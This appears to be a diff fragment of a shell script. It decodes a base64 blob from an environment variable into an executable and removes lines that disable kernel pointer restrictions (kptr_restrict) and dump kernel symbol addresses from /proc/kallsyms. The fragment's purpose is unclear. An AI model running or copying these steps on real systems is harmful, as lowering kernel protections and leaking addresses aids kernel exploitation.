@@ -44,9 +44,8 @@ base64 -d <<<"$TERN_SET_PROFILE_MARK" >"$TMP/mark"
 chmod +x "$TMP/mark"
 place "$TERN_SET_PROFILE_PLACE"
 [ "$candidate" = tcp ] || up "$candidate"
-echo 0 >/proc/sys/kernel/kptr_restrict
-awk '$2 ~ /^[tTwW]$/ { print "KSYM", $1, $3, $4 }' /proc/kallsyms
 # the first run loads modules
 messages $((n / 4))
 counted $((n / 4))
 counted "$n"
+symbols
